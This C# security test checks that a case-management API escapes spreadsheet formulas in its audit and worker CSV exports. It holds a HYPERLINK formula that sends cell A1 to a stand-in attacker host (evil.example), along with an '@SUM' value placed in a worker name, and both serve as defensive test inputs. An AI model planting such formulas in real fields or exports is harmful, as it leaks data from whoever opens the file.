using System.Net.Http.Json;
using System.Text;
using Allocation.Tests.Infrastructure;
using CsvHelper;

namespace Allocation.Tests.Security;

/// <summary>Text users type (reasons, names) reaches CSV files leaders open in a spreadsheet: a formula comes back as text.</summary>
[Collection(AppCollection.Name)]
public sealed class CsvInjectionTests(AppFactory factory)
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?c=\"&A1,\"Open the case\")";
    private readonly string _p = "csv" + Guid.NewGuid().ToString("N")[..6];

    [Fact]
    public async Task A_formula_written_through_a_reason_or_a_name_comes_back_escaped_in_the_audit_and_the_export()
    {
        using var http = factory.CreateClient();
        (await http.PutAsJsonAsync($"/api/teams/{_p}-t", new { name = "CSV" })).EnsureSuccessStatusCode();
        (await http.PutAsJsonAsync($"/api/workers/{_p}-w", new { name = "@SUM(1+1)", teamId = _p + "-t", role = "SocialWorker", fte = 1.0 })).EnsureSuccessStatusCode();
        (await http.PostAsJsonAsync($"/api/children/{_p}-c/refer", new { requestId = "r1", teamId = _p + "-t" })).EnsureSuccessStatusCode();
        (await http.PostAsJsonAsync($"/api/children/{_p}-c/close", new { requestId = "r2", reason = Formula })).EnsureSuccessStatusCode();

        var audit = Rows(await http.GetStringAsync($"/api/audit/csv?childId={_p}-c"));
        var workers = Rows(await http.GetStringAsync("/api/export/workers.csv"));

        Assert.Equal("'" + Formula, audit.Single(r => r["action"] == "child.close")["reason"]);
        Assert.Equal("'@SUM(1+1)", workers.Single(r => r["worker_id"] == _p + "-w")["name"]);
    }

    private static List<Dictionary<string, string>> Rows(string csv)
    {
        using var reader = CsvReader.Create(Encoding.UTF8.GetBytes(csv), new CsvReaderOptions { HasHeader = true });
        var header = reader.Headers!;
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, header.Count).ToDictionary(i => header[i], i => reader.GetString(i)));
        }

        return rows;
    }
}
